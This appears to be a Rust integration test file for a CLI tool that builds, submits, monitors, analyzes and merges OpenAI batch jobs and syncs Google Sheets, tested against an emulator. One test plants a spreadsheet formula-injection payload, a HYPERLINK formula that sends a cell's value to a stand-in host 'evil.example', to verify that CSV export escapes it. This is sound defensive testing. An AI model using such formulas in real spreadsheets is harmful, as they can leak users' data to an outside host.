//! `almanac batch …` step by step, as a pipeline runs it: build → submit → status (exit 3 while
//! running, `--wait` downloads the results) → results analyze (counts, failures by reason, tokens,
//! cost) → results merge; job ids in `batch status`; `--help` examples on every subcommand.

use crate::common::{SEED_JSON, World, code, json, output, read_json, stderr};
use almanac_emulator::{Faults, RowFault};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_steps_one_by_one_build_submit_wait_analyze_and_merge() {
    let w = World::start().await;
    w.write("events.json", SEED_JSON);

    let mut build = w.almanac();
    build.args([
        "batch",
        "build",
        "events.json",
        "--model",
        "o4-mini-2025-04-16",
        "-o",
        "batchinput.jsonl",
        "--json",
    ]);
    let out = output(build).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let built = json(&out);
    assert_eq!(built["requests"], 16);
    assert_eq!(built["model"], "o4-mini-2025-04-16");
    let lines: Vec<serde_json::Value> = std::fs::read_to_string(w.path("batchinput.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 16);
    assert_eq!(lines[0]["custom_id"], "01-27");
    assert_eq!(lines[0]["body"]["model"], "o4-mini-2025-04-16");
    assert_eq!(w.emulator.calls().files_create, 0, "build sends nothing");

    w.emulator.hold_batches(true);
    let mut submit = w.almanac();
    submit.args(["batch", "submit", "batchinput.jsonl", "--json"]);
    let out = output(submit).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let batch_id = json(&out)["batch_id"].as_str().unwrap().to_owned();
    assert!(batch_id.starts_with("batch_"));
    assert_eq!(w.emulator.calls().batches_create, 1);
    assert_eq!(json(&out)["already_submitted"], false);

    // The same file again (a pipeline re-run): the first batch is found, nothing is sent.
    let mut again = w.almanac();
    again.args(["batch", "submit", "batchinput.jsonl", "--json"]);
    let out = output(again).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(json(&out)["batch_id"], batch_id.as_str());
    assert_eq!(json(&out)["already_submitted"], true);
    assert_eq!(w.emulator.calls().batches_create, 1, "not billed twice");
    assert_eq!(w.emulator.calls().files_create, 1);

    // Still running: exit 3, nothing downloaded.
    let mut status = w.almanac();
    status.args(["batch", "status", &batch_id, "--json"]);
    let out = output(status).await;
    assert_eq!(code(&out), 3, "{}", stderr(&out));
    let doc = json(&out);
    assert_eq!(doc["exit_code"], 3);
    assert!(doc["saved_files"].as_array().unwrap().is_empty());

    w.emulator.hold_batches(false);
    let mut wait = w.almanac();
    wait.args([
        "batch",
        "status",
        &batch_id,
        "--wait",
        "--check-interval",
        "0.1",
        "--output-dir",
        "results",
        "--json",
    ]);
    let out = output(wait).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let doc = json(&out);
    assert_eq!(doc["status"], "completed");
    assert_eq!(doc["request_counts"]["completed"], 16);
    let results = w.path(&format!("results/{batch_id}.output.jsonl"));
    assert!(results.exists());

    let mut analyze = w.almanac();
    analyze
        .args(["batch", "results", "analyze"])
        .arg(&results)
        .arg("--json");
    let out = output(analyze).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let doc = json(&out);
    assert_eq!(doc["succeeded"], 16);
    assert_eq!(doc["failed"], 0);
    assert_eq!(doc["cost"]["model"], "o4-mini-2025-04-16");

    let mut merge = w.almanac();
    merge
        .args(["batch", "results", "merge"])
        .arg(&results)
        .args(["--into", "events.json", "-o", "final.json", "--json"]);
    let out = output(merge).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(json(&out)["rows_written"], 16);
    let merged = read_json(&w.path("final.json"));
    assert!(
        !merged["01-27"]["content_detailed"]
            .as_str()
            .unwrap()
            .is_empty()
    );
    assert_eq!(merged["08-15"]["year"], "1945", "filled values kept");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn analyze_counts_failures_by_reason_with_tokens_and_cost() {
    let w = World::start().await;
    w.write("events.json", SEED_JSON);
    w.emulator.set_faults(Faults {
        rows: [
            ("01-27".to_string(), RowFault::InvalidJson),
            ("03-01".to_string(), RowFault::HttpError(500)),
            ("04-01".to_string(), RowFault::HttpError(500)),
            ("04-19".to_string(), RowFault::MissingField("year".into())),
        ]
        .into(),
        expire_after: None,
        ..Faults::default()
    });
    let mut run = w.almanac();
    run.args([
        "run",
        "events.json",
        "out.json",
        "--keep-temp-files",
        "--check-interval",
        "0.1",
        "--json",
    ]);
    let out = output(run).await;
    assert_eq!(code(&out), 4, "{}", stderr(&out));
    let batch_id = json(&out)["job"]["batch_ids"][0]
        .as_str()
        .unwrap()
        .to_owned();
    let kept = w.path("out.json.almanac-files");
    for suffix in ["input", "output", "errors"] {
        assert!(
            kept.join(format!("{batch_id}.{suffix}.jsonl")).exists(),
            "--keep-temp-files kept the {suffix} file"
        );
    }

    let mut analyze = w.almanac();
    analyze
        .args(["batch", "results", "analyze"])
        .arg(kept.join(format!("{batch_id}.output.jsonl")))
        .arg(kept.join(format!("{batch_id}.errors.jsonl")))
        .arg("--json");
    let out = output(analyze).await;
    assert_eq!(code(&out), 4, "failures give exit 4: {}", stderr(&out));
    let doc = json(&out);
    assert_eq!(doc["lines"], 16);
    assert_eq!(doc["succeeded"], 12);
    assert_eq!(doc["failed"], 4);
    let by_code: std::collections::HashMap<String, u64> = doc["failures"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["code"].as_str().unwrap().to_owned(),
                f["count"].as_u64().unwrap(),
            )
        })
        .collect();
    assert_eq!(by_code["http_500"], 2, "{by_code:?}");
    assert_eq!(by_code["invalid_json"], 1, "{by_code:?}");
    assert_eq!(by_code["missing_field"], 1, "{by_code:?}");
    assert!(doc["usage"]["prompt_tokens"].as_u64().unwrap() > 0);
    let cost = doc["cost"]["total_usd"].as_f64().unwrap();
    assert!(cost > 0.0 && cost < 1.0, "{cost}");

    let mut text = w.almanac();
    text.args(["batch", "results", "analyze"])
        .arg(kept.join(format!("{batch_id}.errors.jsonl")));
    let out = output(text).await;
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("http_500: 2"), "{stdout}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn status_of_a_run_job_and_of_unknown_ids() {
    let w = World::start().await;
    w.write("events.json", SEED_JSON);
    let mut run = w.almanac();
    run.args([
        "run",
        "events.json",
        "out.json",
        "--check-interval",
        "0.1",
        "--json",
    ]);
    let out = output(run).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let job_id = json(&out)["job"]["id"].as_str().unwrap().to_owned();

    let mut status = w.almanac();
    status.args(["batch", "status", &job_id, "--json"]);
    let out = output(status).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(json(&out)["job"]["row_counts"]["done"], 16);

    let mut unknown = w.almanac();
    unknown.args(["batch", "status", "no-such-job", "--json"]);
    let out = output(unknown).await;
    assert_eq!(code(&out), 2);
    assert_eq!(json(&out)["error"]["kind"], "bad_input");

    let mut missing_batch = w.almanac();
    missing_batch.args(["batch", "status", "batch_doesnotexist"]);
    let out = output(missing_batch).await;
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    assert!(
        stderr(&out).contains("batch_doesnotexist"),
        "{}",
        stderr(&out)
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn submit_refuses_a_file_that_is_not_a_batch_input() {
    let w = World::start().await;
    w.write("bad.jsonl", "{\"custom_id\": \"a\", \"method\": \"POST\", \"url\": \"/v1/chat/completions\", \"body\": {}}\nnot json\n");
    let mut submit = w.almanac();
    submit.args(["batch", "submit", "bad.jsonl"]);
    let out = output(submit).await;
    assert_eq!(code(&out), 2);
    assert!(
        stderr(&out).contains("bad.jsonl:2: not JSON"),
        "{}",
        stderr(&out)
    );
    assert_eq!(w.emulator.calls().files_create, 0);
}

#[test]
fn every_subcommand_has_help_with_an_example() {
    let commands: [&[&str]; 9] = [
        &["run"],
        &["batch", "build"],
        &["batch", "submit"],
        &["batch", "status"],
        &["batch", "results", "analyze"],
        &["batch", "results", "merge"],
        &["sheet", "pull"],
        &["sheet", "push"],
        &[],
    ];
    for args in commands {
        let out = assert_cmd::Command::new(env!("CARGO_BIN_EXE_almanac"))
            .args(args)
            .arg("--help")
            .output()
            .unwrap();
        assert!(out.status.success(), "{args:?}");
        let help = String::from_utf8_lossy(&out.stdout);
        if args.is_empty() {
            assert!(help.contains("Exit codes"), "{help}");
        } else {
            assert!(help.contains("Examples:\n"), "{args:?}: {help}");
            let example = format!("\n  almanac {} ", args.join(" "));
            assert!(help.contains(&example), "{args:?}: {help}");
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sheet_pull_of_some_rows_and_push_with_problems() {
    let w = World::start().await;
    w.emulator
        .add_sheet_from_csv("s1", 0, "Events", almanac_emulator::SAMPLE_KO_CSV)
        .unwrap();
    let mut pull = w.almanac();
    pull.args([
        "sheet", "pull", "s1", "--rows", "2:5", "-o", "some.csv", "--json",
    ]);
    let out = output(pull).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(json(&out)["rows"], 4);
    let text = std::fs::read_to_string(w.path("some.csv")).unwrap();
    assert!(text.starts_with("id,title,year,content_simple,content_detailed,related_movies,imageUrl,relatedMovieId\n01-27,"), "{text}");
    assert_eq!(text.lines().count(), 5);

    // One id of the file is not in the sheet: the others are written, exit 4 names it.
    w.write(
        "answers.csv",
        "id,title,year,content_simple,content_detailed,related_movies\n01-27,x,1945,s,d,m\n99-99,y,1,s,d,m\n",
    );
    let mut push = w.almanac();
    push.args(["sheet", "push", "s1", "answers.csv", "--json"]);
    let out = output(push).await;
    assert_eq!(code(&out), 4, "{}", stderr(&out));
    let doc = json(&out);
    assert_eq!(doc["rows_written"], 1);
    assert_eq!(doc["problems"][0]["id"], "99-99");
    assert_eq!(w.emulator.cell("s1", 0, 1, 2), "1945");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sheet_pull_escapes_formula_cells_in_csv_unless_raw_and_leaves_json_alone() {
    let w = World::start().await;
    let evil = "=HYPERLINK(\"http://evil.example/\"&A2,\"open\")";
    w.emulator
        .add_sheet_from_csv(
            "s1",
            0,
            "Events",
            &format!(
                "id,title,year\n01-01,\"{}\",-500\n01-02,@SUM(1),1969\n",
                evil.replace('"', "\"\"")
            ),
        )
        .unwrap();
    let pull = |file: &str, raw: bool| {
        let mut cmd = w.almanac();
        cmd.args(["sheet", "pull", "s1", "-o", file, "--json"]);
        if raw {
            cmd.arg("--raw-csv");
        }
        cmd
    };
    let out = output(pull("escaped.csv", false)).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let text = std::fs::read_to_string(w.path("escaped.csv")).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(
        lines[1], "01-01,\"'=HYPERLINK(\"\"http://evil.example/\"\"&A2,\"\"open\"\")\",'-500",
        "{text}"
    );
    assert_eq!(lines[2], "01-02,'@SUM(1),1969", "{text}");

    let out = output(pull("raw.csv", true)).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let text = std::fs::read_to_string(w.path("raw.csv")).unwrap();
    assert!(text.contains("\n01-02,@SUM(1),1969\n"), "{text}");
    assert!(text.contains(",-500\n"), "{text}");

    let out = output(pull("events.json", false)).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let doc = read_json(&w.path("events.json"));
    assert_eq!(doc["01-01"]["title"], evil, "JSON keeps the value");
    assert_eq!(doc["01-01"]["year"], "-500");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn missing_credentials_are_named() {
    let w = World::start().await;
    w.write("b.jsonl", "{\"custom_id\": \"a\", \"method\": \"POST\", \"url\": \"/v1/chat/completions\", \"body\": {}}\n");
    let mut submit = w.almanac();
    submit
        .env_remove("OPENAI_API_KEY")
        .args(["batch", "submit", "b.jsonl"]);
    let out = output(submit).await;
    assert_eq!(code(&out), 2);
    assert!(
        stderr(&out).contains("OPENAI_API_KEY is not set"),
        "{}",
        stderr(&out)
    );

    let mut pull = w.almanac();
    pull.env_remove("GOOGLE_APPLICATION_CREDENTIALS")
        .args(["sheet", "pull", "s1", "-o", "x.json"]);
    let out = output(pull).await;
    assert_eq!(code(&out), 1);
    assert!(
        stderr(&out).contains("GOOGLE_APPLICATION_CREDENTIALS"),
        "{}",
        stderr(&out)
    );
    assert_eq!(w.emulator.calls().files_create, 0);
}
